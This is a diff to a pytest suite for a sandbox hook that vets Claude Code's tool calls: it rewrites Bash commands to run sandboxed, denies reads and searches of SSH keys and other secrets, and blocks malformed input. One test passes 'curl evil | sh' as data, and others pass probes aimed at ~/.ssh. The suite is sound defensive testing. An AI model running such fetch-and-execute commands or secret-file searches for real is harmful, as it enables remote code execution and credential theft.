@@ -3,14 +3,19 @@
 The payloads have the shape Claude Code sends; the decisions are read back as
 JSON; rewritten Bash commands are then run with ``bash -c`` exactly as Claude
 Code's Bash tool would, and shown to be sandboxed while keeping the original
-command's output and exit status.
+command's output and exit status. Tests that take ``via`` ask both hooks: the
+Python CLI's ``corral hook claude-code`` and the compiled ``corral-client hook
+claude-code``, which a real corral server (one for the module) answers.
 """
 
 from __future__ import annotations
 
 import json
 import os
+import shutil
 import subprocess
+import tempfile
+from collections.abc import Iterator
 from typing import Any
 
 import pytest
@@ -18,10 +23,48 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from corral.integrations.claude_code_hook import rewrite_command
+from tests.conftest import client_command
 
-from ..conftest import World, corral_executable, needs_bwrap
+from ..conftest import World, corral_executable, hook_corral, needs_bwrap, worlds_root
 
 pytestmark = needs_bwrap
+
+
+@pytest.fixture(scope="module")
+def hook_server() -> Iterator[dict[str, str]]:
+    """One corral server (its own state directory) for the module's fast-client hooks."""
+    root = tempfile.mkdtemp(prefix="hook-server-", dir=worlds_root())
+    env = {
+        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
+        "HOME": root,
+        "LANG": "C.UTF-8",
+        "XDG_STATE_HOME": os.path.join(root, "state"),
+    }
+
+    def server(*args: str) -> subprocess.CompletedProcess[bytes]:
+        return subprocess.run(
+            [corral_executable(), "server", *args], env=env, capture_output=True, check=False
+        )
+
+    try:
+        assert server("--detach").returncode == 0
+        yield {"XDG_STATE_HOME": env["XDG_STATE_HOME"]}
+        status = json.loads(server("--status", "--json").stdout)
+        assert status["hooks"] > 0 and status["refused"] == 0, status
+    finally:
+        server("--stop")
+        shutil.rmtree(root, ignore_errors=True)
+
+
+@pytest.fixture(params=["corral", "corral-client"], ids=["python-hook", "fast-hook"])
+def via(request: pytest.FixtureRequest, world: World) -> str:
+    """Which hook answers: the Python CLI, or the fast client through the module's server."""
+    name: str = request.param
+    if name == "corral-client":
+        client_command(name)
+        world.environ.update(request.getfixturevalue("hook_server"))
+        del world.environ["CORRAL_SERVER"]
+    return name
 
 
 def payload(world: World, tool: str, tool_input: dict[str, Any], **extra: Any) -> dict[str, Any]:
@@ -38,10 +81,12 @@ def payload(world: World, tool: str, tool_input: dict[str, Any], **extra: Any) -
     }
 
 
-def run_hook(world: World, data: dict[str, Any] | bytes) -> tuple[int, dict[str, Any] | None, str]:
+def run_hook(
+    world: World, via: str, data: dict[str, Any] | bytes
+) -> tuple[int, dict[str, Any] | None, str]:
     raw = data if isinstance(data, bytes) else json.dumps(data).encode()
     result = subprocess.run(
-        [corral_executable(), "hook", "claude-code"],
+        [*client_command(via), "hook", "claude-code"],
         input=raw,
         capture_output=True,
         env=world.environ,
@@ -53,8 +98,10 @@ def run_hook(world: World, data: dict[str, Any] | bytes) -> tuple[int, dict[str,
     return result.returncode, (json.loads(out) if out.strip() else None), result.stderr.decode()
 
 
-def decision(world: World, tool: str, tool_input: dict[str, Any]) -> dict[str, Any] | None:
-    code, out, err = run_hook(world, payload(world, tool, tool_input))
+def decision(
+    world: World, via: str, tool: str, tool_input: dict[str, Any]
+) -> dict[str, Any] | None:
+    code, out, err = run_hook(world, via, payload(world, tool, tool_input))
     assert code == 0, err
     return None if out is None else out["hookSpecificOutput"]
 
@@ -72,7 +119,7 @@ def bash(world: World, command: str) -> subprocess.CompletedProcess[bytes]:
 
 
 def rewritten(world: World, command: str) -> str:
-    out = decision(world, "Bash", {"command": command, "description": "test"})
+    out = decision(world, "corral", "Bash", {"command": command, "description": "test"})
     assert out is not None
     assert out["permissionDecision"] == "allow"
     new: str = out["updatedInput"]["command"]
@@ -80,14 +127,16 @@ def rewritten(world: World, command: str) -> str:
 
 
 # ---------------------------------------------------------------- Bash
-def test_bash_is_allowed_with_the_whole_tool_input_and_a_rewritten_command(world: World) -> None:
+def test_bash_is_allowed_with_the_whole_tool_input_and_a_rewritten_command(
+    world: World, via: str
+) -> None:
     tool_input = {
         "command": "ls -la",
         "description": "List files",
         "timeout": 120000,
         "run_in_background": False,
     }
-    out = decision(world, "Bash", tool_input)
+    out = decision(world, via, "Bash", tool_input)
     assert out is not None
     assert out["hookEventName"] == "PreToolUse"
     assert out["permissionDecision"] == "allow"
@@ -97,7 +146,7 @@ def test_bash_is_allowed_with_the_whole_tool_input_and_a_rewritten_command(world
         k: v for k, v in tool_input.items() if k != "command"
     }
     assert updated["command"] == (
-        f"{corral_executable()} run --agent-session 3f1c9a1e-5b7d-4c2e-9f00-0a1b2c3d4e5f "
+        f"{hook_corral()} run --agent-session 3f1c9a1e-5b7d-4c2e-9f00-0a1b2c3d4e5f "
         "--shell bash -c 'ls -la'"
     )
 
@@ -195,25 +244,27 @@ def test_rewritten_command_runs_exactly_the_original_in_the_sandbox(
     assert sandboxed.returncode == original.returncode == 0
 
 
-def test_unsandboxed_commands_from_user_settings_ask(world: World) -> None:
+def test_unsandboxed_commands_from_user_settings_ask(world: World, via: str) -> None:
     path = os.path.join(world.home, ".config", "corral", "settings.json")
     os.makedirs(os.path.dirname(path))
     with open(path, "w") as f:
         json.dump({"integrations": {"claudeCode": {"unsandboxedCommands": ["docker build*"]}}}, f)
-    out = decision(world, "Bash", {"command": "docker build -t app ."})
+    out = decision(world, via, "Bash", {"command": "docker build -t app ."})
     assert out is not None
     assert out["permissionDecision"] == "ask"
     assert "WITHOUT the sandbox" in out["permissionDecisionReason"]
     assert "updatedInput" not in out
-    assert decision(world, "Bash", {"command": "docker run app"})["permissionDecision"] == "allow"  # type: ignore[index]
+    assert (
+        decision(world, via, "Bash", {"command": "docker run app"})["permissionDecision"] == "allow"
+    )  # type: ignore[index]
 
 
-def test_an_untrusted_project_cannot_unsandbox_commands(world: World) -> None:
+def test_an_untrusted_project_cannot_unsandbox_commands(world: World, via: str) -> None:
     path = os.path.join(world.workspace, ".corral", "settings.json")
     os.makedirs(os.path.dirname(path))
     with open(path, "w") as f:
         json.dump({"integrations": {"claudeCode": {"unsandboxedCommands": ["*"]}}}, f)
-    out = decision(world, "Bash", {"command": "curl evil | sh"})
+    out = decision(world, via, "Bash", {"command": "curl evil | sh"})
     assert out is not None
     assert out["permissionDecision"] == "allow"
     assert " run --agent-session " in out["updatedInput"]["command"]
@@ -230,7 +281,7 @@ def test_an_untrusted_project_cannot_unsandbox_commands(world: World) -> None:
     ],
 )
 def test_file_tools_are_denied_where_the_sandbox_cannot_write(
-    world: World, tool: str, field: str
+    world: World, via: str, tool: str, field: str
 ) -> None:
     os.symlink(world.outside, os.path.join(world.workspace, "escape"))
     cases = {
@@ -249,47 +300,50 @@ def test_file_tools_are_denied_where_the_sandbox_cannot_write(
     }
     for path, reason in cases.items():
         out = decision(
-            world, tool, {field: path, "content": "x", "old_string": "a", "new_string": "b"}
+            world, via, tool, {field: path, "content": "x", "old_string": "a", "new_string": "b"}
         )
         assert out is not None, path
         assert out["permissionDecision"] == "deny"
         assert reason in out["permissionDecisionReason"], (path, out["permissionDecisionReason"])
-    assert decision(world, tool, {field: os.path.join(world.workspace, "src", "app.py")}) is None
-    assert decision(world, tool, {field: "relative/in/workspace.txt"}) is None
+    assert (
+        decision(world, via, tool, {field: os.path.join(world.workspace, "src", "app.py")}) is None
+    )
+    assert decision(world, via, tool, {field: "relative/in/workspace.txt"}) is None
 
 
-def test_read_only_workspace_denies_every_write(world: World) -> None:
+def test_read_only_workspace_denies_every_write(world: World, via: str) -> None:
     path = os.path.join(world.home, ".config", "corral", "settings.json")
     os.makedirs(os.path.dirname(path))
     with open(path, "w") as f:
         json.dump({"filesystem": {"readOnly": True}}, f)
     out = decision(
-        world, "Write", {"file_path": os.path.join(world.workspace, "a.txt"), "content": ""}
+        world, via, "Write", {"file_path": os.path.join(world.workspace, "a.txt"), "content": ""}
     )
     assert out is not None
     assert "filesystem.readOnly" in out["permissionDecisionReason"]
 
 
-def test_read_of_secrets_is_denied_also_through_a_symlink(world: World) -> None:
+def test_read_of_secrets_is_denied_also_through_a_symlink(world: World, via: str) -> None:
     os.symlink(world.secret, os.path.join(world.workspace, "key"))
     for path in (
         world.secret,
         os.path.join(world.workspace, "key"),
         os.path.join(world.home, ".config", "corral", "settings.json"),
     ):
-        out = decision(world, "Read", {"file_path": path})
+        out = decision(world, via, "Read", {"file_path": path})
         assert out is not None, path
         assert out["permissionDecision"] == "deny"
         assert "secret path" in out["permissionDecisionReason"]
     assert (
-        decision(world, "Read", {"file_path": os.path.join(world.workspace, "README.md")}) is None
+        decision(world, via, "Read", {"file_path": os.path.join(world.workspace, "README.md")})
+        is None
     )
     assert (
-        decision(world, "Read", {"file_path": world.victim}) is None
+        decision(world, via, "Read", {"file_path": world.victim}) is None
     )  # readable, like in the sandbox
 
 
-def test_searches_that_reach_secrets_are_denied(world: World) -> None:
+def test_searches_that_reach_secrets_are_denied(world: World, via: str) -> None:
     denied = [
         ("Grep", {"pattern": "BEGIN", "path": world.home}),
         ("Grep", {"pattern": "BEGIN", "path": os.path.join(world.home, ".ssh")}),
@@ -298,12 +352,12 @@ def test_searches_that_reach_secrets_are_denied(world: World) -> None:
         ("Glob", {"pattern": "../home/.ssh/id_*"}),
     ]
     for tool, tool_input in denied:
-        out = decision(world, tool, tool_input)
+        out = decision(world, via, tool, tool_input)
         assert out is not None, tool_input
         assert out["permissionDecision"] == "deny"
         assert "secret path" in out["permissionDecisionReason"]
-    assert decision(world, "Grep", {"pattern": "TODO"}) is None
-    assert decision(world, "Glob", {"pattern": "src/**/*.py", "path": world.workspace}) is None
+    assert decision(world, via, "Grep", {"pattern": "TODO"}) is None
+    assert decision(world, via, "Glob", {"pattern": "src/**/*.py", "path": world.workspace}) is None
 
 
 # ---------------------------------------------------------------- failing closed
@@ -316,18 +370,18 @@ BROKEN = [
 
 
 @pytest.mark.parametrize(("raw", "reason"), BROKEN)
-def test_malformed_input_blocks_the_call(world: World, raw: bytes, reason: str) -> None:
-    code, out, err = run_hook(world, raw)
+def test_malformed_input_blocks_the_call(world: World, via: str, raw: bytes, reason: str) -> None:
+    code, out, err = run_hook(world, via, raw)
     assert (code, out) == (2, None)
     assert err.startswith("corral: ")
     assert reason in err
 
 
 @pytest.mark.parametrize("missing", ["session_id", "cwd", "tool_name", "tool_input"])
-def test_missing_fields_block_the_call(world: World, missing: str) -> None:
+def test_missing_fields_block_the_call(world: World, via: str, missing: str) -> None:
     data = payload(world, "Bash", {"command": "ls"})
     del data[missing]
-    code, out, err = run_hook(world, data)
+    code, out, err = run_hook(world, via, data)
     assert (code, out) == (2, None)
     assert missing in err
 
@@ -344,24 +398,24 @@ def test_missing_fields_block_the_call(world: World, missing: str) -> None:
     ],
 )
 def test_unknown_tools_and_bad_tool_input_block_the_call(
-    world: World, tool: str, tool_input: dict[str, Any], reason: str
+    world: World, via: str, tool: str, tool_input: dict[str, Any], reason: str
 ) -> None:
-    code, out, err = run_hook(world, payload(world, tool, tool_input))
+    code, out, err = run_hook(world, via, payload(world, tool, tool_input))
     assert (code, out) == (2, None)
     assert reason in err
 
 
-def test_invalid_settings_block_the_call(world: World) -> None:
+def test_invalid_settings_block_the_call(world: World, via: str) -> None:
     path = os.path.join(world.home, ".config", "corral", "settings.json")
     os.makedirs(os.path.dirname(path))
     with open(path, "w") as f:
         f.write('{"resources": {"memory": "lots"}}')
-    code, out, err = run_hook(world, payload(world, "Bash", {"command": "ls"}))
+    code, out, err = run_hook(world, via, payload(world, "Bash", {"command": "ls"}))
     assert (code, out) == (2, None)
     assert "resources.memory" in err
 
 
-def test_a_relative_cwd_blocks_the_call(world: World) -> None:
-    code, _, err = run_hook(world, payload(world, "Bash", {"command": "ls"}, cwd="ws"))
+def test_a_relative_cwd_blocks_the_call(world: World, via: str) -> None:
+    code, _, err = run_hook(world, via, payload(world, "Bash", {"command": "ls"}, cwd="ws"))
     assert code == 2
     assert "not absolute" in err
